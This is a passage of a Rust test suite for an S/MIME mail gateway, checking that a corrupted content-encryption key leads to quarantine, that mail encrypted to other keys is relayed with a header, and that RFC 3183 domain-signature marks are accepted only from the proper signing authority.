             Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}",
            String::from_utf8(mime::base64_lines(der)).unwrap()
        )
        .into_bytes()
    };
    // Damage the RSA-encrypted content key (the 256-byte OCTET STRING of the RecipientInfo).
    let mut der = to(&us.cert);
    let at = der
        .windows(4)
        .position(|w| w == [0x04, 0x82, 0x01, 0x00])
        .expect("the encrypted key");
    for b in &mut der[at + 4..at + 36] {
        *b ^= 0x5a;
    }
    for policy in [InboundAction::Tag, InboundAction::Quarantine] {
        let mut r = router();
        r.policy.not_for_us = policy;
        let got = rt.block_on(r.inbound(
            &checked(&dir),
            Some(&addr("doc@partner.test")),
            &smime(&der),
        ));
        assert!(
            matches!(
                got,
                Inbound::Quarantine {
                    reason: QuarantineReason::CannotOpen { .. },
                    ..
                }
            ),
            "{policy:?}: {}",
            text(&got)
        );
    }
    // For the nurse's own key, not ours: relayed as it came, one line in front.
    let theirs = smime(&to(&user.cert));
    let got =
        rt.block_on(router().inbound(&checked(&dir), Some(&addr("doc@partner.test")), &theirs));
    let Inbound::Deliver { message, .. } = got else {
        panic!("not relayed: {}", text(&got))
    };
    let line = b"Postern-Decrypted: no (smime: encrypted to other keys)\r\n";
    assert_eq!(&message[..line.len()], line);
    assert_eq!(&message[line.len()..], &theirs[..]);
}

/// RFC 3183 signature types on receipt: a signature marked domainSig is valid only from the
/// domain signing authority of the From's domain (reported with its type); the same mark from
/// a person's certificate is invalid, the rule named; unmarked, that person's signature is an
/// ordinary one. Sealed by Postern's S/MIME backend, as a partner's gateway would.
#[test]
fn a_signature_that_says_it_is_a_domain_signature_must_be_the_domain_s_authority() {
    use postern_core::{MessageView, Policy, SealRequest};
    let pki = Pki::new();
    let us = pki.issue("gw@clinic.example", KeyKind::Rsa(2048));
    let gateway = pki.issue("gw@partner.test", KeyKind::Rsa(2048));
    let authority = pki.issue("domain-signing-authority@partner.test", KeyKind::Rsa(2048));
    let alice = pki.issue("alice@partner.test", KeyKind::Rsa(2048));
    let dir = smime_directory(&pki, &us, &gateway);
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let policy = Policy::default();
    let to_us = [us.cert_pem()];
    let verdict = |signer: &postern_tests::EndEntity, from: &str, marked: bool| {
        let msg = format!(
            "From: {from}\r\nTo: records@clinic.example\r\nSubject: referral\r\n\r\nSee the patient.\r\n"
        );
        let view = MessageView::parse(msg.as_bytes()).unwrap();
        let cred = signer.credential();
        let req = SealRequest::encrypt(&to_us, &policy)
            .signed_by(&cred)
            .as_domain_signature(marked);
        let sealed = SmimeEnvelope::new().seal_sync(&view, &req).unwrap();
        text(&rt.block_on(router().inbound(
            &checked(&dir),
            Some(&addr("doc@partner.test")),
            &sealed,
        )))
    };
    let t = verdict(&authority, "doc@partner.test", true);
    assert!(t.contains("Postern-Signature: valid"), "{t}");
    assert!(
        t.contains(
            "Postern-Signature-Detail: declared type=domain signer=domain-signing-authority@partner.test"
        ),
        "{t}"
    );
    let t = verdict(&alice, "alice@partner.test", true);
    assert!(t.contains("Postern-Signature: invalid"), "{t}");
    assert!(t.contains("RFC 3183: a domain signature"), "{t}");
    let t = verdict(&alice, "alice@partner.test", false);
    assert!(t.contains("Postern-Signature: valid"), "{t}");
    assert!(!t.contains("type=domain"), "{t}");
    // Name mapping: the partner's authority may mark a signature for a subdomain of it (the
    // mark breaks no rule; the From binding judges the rest — here the partner entry covers
    // partner.test only, so untrusted, not invalid); an authority of a subdomain may not mark
    // one for its parent.
    let t = verdict(&authority, "nurse@ward.partner.test", true);
    assert!(
        !t.contains("RFC 3183") && !t.contains("Signature: invalid"),
        "{t}"
    );
    let ward = pki.issue(
        "domain-signing-authority@ward.partner.test",
        KeyKind::Rsa(2048),
    );
    let t = verdict(&ward, "doc@partner.test", true);
    assert!(t.contains("Postern-Signature: invalid"), "{t}");
    assert!(t.contains("RFC 3183: a domain signature"), "{t}");
    // The partner's declared gateway key marking its signature is no forgery: judged by the
    // From binding as ever (it speaks for its domain).
    let t = verdict(&gateway, "doc@partner.test", true);
    assert!(t.contains("Postern-Signature: valid"), "{t}");
}
